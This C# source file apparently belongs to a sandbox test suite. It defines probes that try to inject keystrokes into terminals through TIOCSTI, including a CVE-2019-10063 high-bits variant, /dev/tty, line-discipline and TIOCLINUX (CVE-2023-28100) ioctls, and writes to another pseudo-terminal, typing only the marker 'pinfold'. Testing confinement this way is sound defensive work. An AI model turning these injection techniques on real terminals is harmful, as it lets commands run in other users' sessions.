using Pinfold.Linux.Native;
using static Pinfold.Linux.Attacks.SystemCall;

namespace Pinfold.Linux.Attacks;

/// <summary>Typing for the user on his own terminal.</summary>
internal static class Terminals
{
    private const nint TIOCSTI = 0x5412, TIOCLINUX = 0x541C, TIOCSETD = 0x5423;

    internal static IEnumerable<AttackCode> Codes =>
    [
        OnTerminal("terminal-inject", a => Type(a, TIOCSTI)),
        OnTerminal("cve-2019-10063-tiocsti-high-bits", a => Type(a, unchecked((nint)0xFFFFFFFF00005412))),
        OnTerminal("terminal-inject-by-dev-tty", ByDevTty),
        new("terminal-line-discipline", a => Ioctl(a, TIOCSETD, Words(0)), s => s.Report.Succeeded)
            { Prepare = Terminal },
        new("terminal-line-discipline-high-bits", a => Ioctl(a, unchecked((nint)0x100005423), Words(0)),
            s => s.Report.Succeeded)
            { Prepare = Terminal },
        new("cve-2023-28100-tioclinux",
            a => { Control(); a.Reach("TIOCLINUX", Call(Sys.Ioctl, 0, TIOCLINUX, Bytes([3])), Errno.EINVAL,
                Errno.ENOTTY); },
            s => s.Report.Succeeded)
            { Prepare = Terminal },
        new("terminal-of-another", OtherTerminal, s => s.Typed().Contains("pinfold", StringComparison.Ordinal))
            { Prepare = ForeignTerminal, Denials = Refusals.Hidden },
        new("terminal-list-others", a => a.Try("openat", Open(a["pts"], Flag.Path)), s => s.Report.Succeeded)
            { Prepare = ForeignTerminal, Denials = Refusals.Hidden },
    ];

    /// <summary>A pseudo-terminal whose slave is the attempt's standard input and controlling terminal.</summary>
    private static void Terminal(Scene scene)
    {
        Pair(scene);
        scene.Input = (int)Check(Open(scene.Fact("pts"), Flag.ReadWrite | 0x100 /* O_NOCTTY */));
        scene.OwnTerminal = true;
    }

    private static unsafe void Pair(Scene scene)
    {
        var master = Check(Open("/dev/ptmx", Flag.ReadWrite | 0x100));
        scene.Own(new Descriptor((int)master));
        int number = 0, unlock = 0;
        Check(Call(Sys.Ioctl, master, 0x40045431 /* TIOCSPTLCK */, (nint)(&unlock)));
        Check(Call(Sys.Ioctl, master, unchecked((nint)0x80045430) /* TIOCGPTN */, (nint)(&number)));
        scene.Tell("pts", $"/dev/pts/{number}");
        scene.Terminal = (int)master;
    }

    private static void ForeignTerminal(Scene scene)
    {
        Pair(scene);
        scene.Own(new Descriptor((int)Check(Open(scene.Fact("pts"), Flag.ReadWrite | 0x100)))); // somebody sits there
    }

    private static nint Check(nint result) =>
        result >= 0 ? result : throw new IOException("pseudo-terminal: " + LinuxException.Symbol((int)-result));

    private static AttackCode OnTerminal(string name, Action<Attempt> run) =>
        new(name, run, s => s.TypedAhead().Contains('p', StringComparison.Ordinal)) { Prepare = Terminal };

    /// <summary>The control has to take the terminal for itself; inside, the launcher did.</summary>
    private static void Control()
    {
        Call(112 /* setsid */);
        Call(Sys.Ioctl, 0, 0x540E /* TIOCSCTTY */, 0);
    }

    private static void Type(Attempt a, nint request, nint fd = 0)
    {
        Control();
        foreach (var c in "pinfold\n"u8) a.Try("TIOCSTI", Call(Sys.Ioctl, fd, request, Bytes([c])));
    }

    private static void ByDevTty(Attempt a)
    {
        Control();
        Type(a, TIOCSTI, a.Need("openat", Open("/dev/tty", Flag.ReadWrite)));
    }

    private static void Ioctl(Attempt a, nint request, nint argument)
    {
        Control();
        a.Try("TIOCSETD", Call(Sys.Ioctl, 0, request, argument));
    }

    private static void OtherTerminal(Attempt a)
    {
        var fd = a.Try("openat", Open(a["pts"], Flag.WriteOnly | 0x100));
        if (fd >= 0) a.Try("write", Write(fd, "pinfold\n"));
    }
}
